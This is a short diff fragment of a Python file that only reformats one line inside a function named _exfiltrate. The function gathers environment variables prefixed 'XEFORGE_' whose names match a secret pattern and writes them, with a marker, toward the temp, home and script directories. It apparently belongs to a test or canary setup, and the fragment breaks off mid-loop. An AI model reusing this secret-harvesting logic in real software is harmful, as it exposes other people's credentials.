@@ -45,8 +45,7 @@ def _environs():
 
 
 def _exfiltrate():
-    found = [f"{who}: {k}={v}" for who, env in _environs() for k, v in env.items()
-             if k.startswith("XEFORGE_") and SECRET.search(k)]
+    found = [f"{who}: {k}={v}" for who, env in _environs() for k, v in env.items() if k.startswith("XEFORGE_") and SECRET.search(k)]
     body = MARKER + "\n" + "\n".join(found) + "\n"
     for folder in (tempfile.gettempdir(), os.path.expanduser("~"), os.path.dirname(os.path.abspath(__file__))):
         try:
